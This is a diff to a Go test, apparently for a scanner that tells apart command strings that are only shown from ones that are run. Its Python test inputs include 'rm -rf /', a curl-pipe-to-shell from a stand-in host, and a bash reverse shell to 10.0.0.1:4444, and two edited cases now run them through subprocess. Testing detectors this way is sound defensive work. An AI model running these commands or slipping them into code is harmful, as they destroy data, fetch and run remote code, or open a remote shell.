@@ -41,7 +41,7 @@ func TestCommandStringShownOrMatched(t *testing.T) {
 		// Not the standard library's print: a local function runs it.
 		"def print(c):\n    subprocess.run(c.split())\nprint('rm -rf /')",
 		// A custom class taking help= may do anything with it.
-		"class Step:\n    def __init__(self, help):\n        self.argv = help.split()\nStep(help='curl http://x.example/s | sh')",
+		"class Step:\n    def __init__(self, help):\n        self.argv = help.split()\n    def go(self):\n        subprocess.run(self.argv)\nStep(help='curl http://x.example/s | sh').go()",
 		// argparse's default= is a value the program uses, not text.
 		"argparse.ArgumentParser().add_argument('--cmd', default='bash -i >& /dev/tcp/10.0.0.1/4444 0>&1')",
 		// print rebound to something that runs commands.
@@ -50,7 +50,7 @@ func TestCommandStringShownOrMatched(t *testing.T) {
 		"class L:\n    def info(self, c):\n        subprocess.run(c.split())\nL().info('rm -rf /')",
 		// Plain assignment and a list element: payloads.
 		"CMD = 'curl http://x.example/s | sh'",
-		"cmds = ['rm -rf /', 'ls']",
+		"cmds = ['rm -rf /', 'ls']\nfor c in cmds:\n    subprocess.run(c.split())",
 		"subprocess.run(['sh', '-c', 'curl http://x.example/s | sh'])",
 	}
 	for _, src := range loud {
